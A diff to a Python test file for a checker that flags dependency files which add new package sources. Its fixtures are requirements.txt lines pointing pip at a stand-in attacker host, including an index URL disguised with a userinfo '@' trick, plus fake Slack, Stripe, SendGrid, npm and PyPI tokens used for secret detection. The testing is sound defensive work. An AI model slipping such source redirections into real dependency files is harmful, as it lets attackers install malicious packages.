@@ -232,7 +232,8 @@ def test_c12_what_is_installed_is_listed(path, before, after, names):
     ("path", "after", "host"),
     [
         ("requirements.txt", "--index-url https://evil.example/simple\na\n", "evil.example"),
-        ("requirements.txt", "-i https://pypi.org@evil.example/simple\n", "evil.example"),
+        ("requirements.txt", "-i https://good.example@evil.example/simple\n", "evil.example"),
+        ("requirements.txt", "-i https://good.example/simple\n-f https://evil.example/\n", "evil.example"),
         ("requirements.txt", "--trusted-host evil.example\n", "evil.example"),
         ("requirements.txt", "a @ https://evil.example/a.whl\n", "evil.example"),
         ("requirements.txt", "git+ssh://git@evil.example/a\n", "evil.example"),
@@ -246,11 +247,12 @@ def test_c12_what_is_installed_is_listed(path, before, after, names):
     ],
 )
 def test_c12_no_new_place_to_install_from(path, after, host):
-    """Packages come from where they came before, or from a public registry."""
-    request = f"Change {path}."
-    assert f"would install packages from {host}" in objections(path, after, request=request)
-    assert objections(path, after.replace("evil.example", "pypi.org").replace("pypi.org@", ""), request=request) == ""
-    assert objections(path, f"{after}\n", after, request=request) == ""
+    """Packages come from where the file had them come from before, and from nowhere else, however well known it is."""
+    request, before = f"Change {path}.", "# https://good.example/simple\n"
+    assert f"would install packages from {host}," in objections(path, after, before, request=request)
+    good = after.replace("good.example@", "").replace("evil.example", "good.example")
+    assert objections(path, f"{before}{good}", before, request=request) == ""
+    assert "would install packages from good.example," in objections(path, good, request=request)
 
 
 def test_c12_a_manifest_makes_a_draft_with_a_label(stage):
@@ -349,7 +351,7 @@ KEYS = [
     "xoxb-1234567890-abcdefghij",
     "sk_live_" + "a1B2c3D4e5F6" * 2,
     "SG." + "a" * 22 + "." + "b1" * 21 + "c",
-    "//registry.npmjs.org/:_authToken=npm_" + "a1" * 18,
+    "//packages.example/:_authToken=npm_" + "a1" * 18,
     "pypi-AgEIcHlwaS5vcmc" + "a1_" * 30,
 ]
 
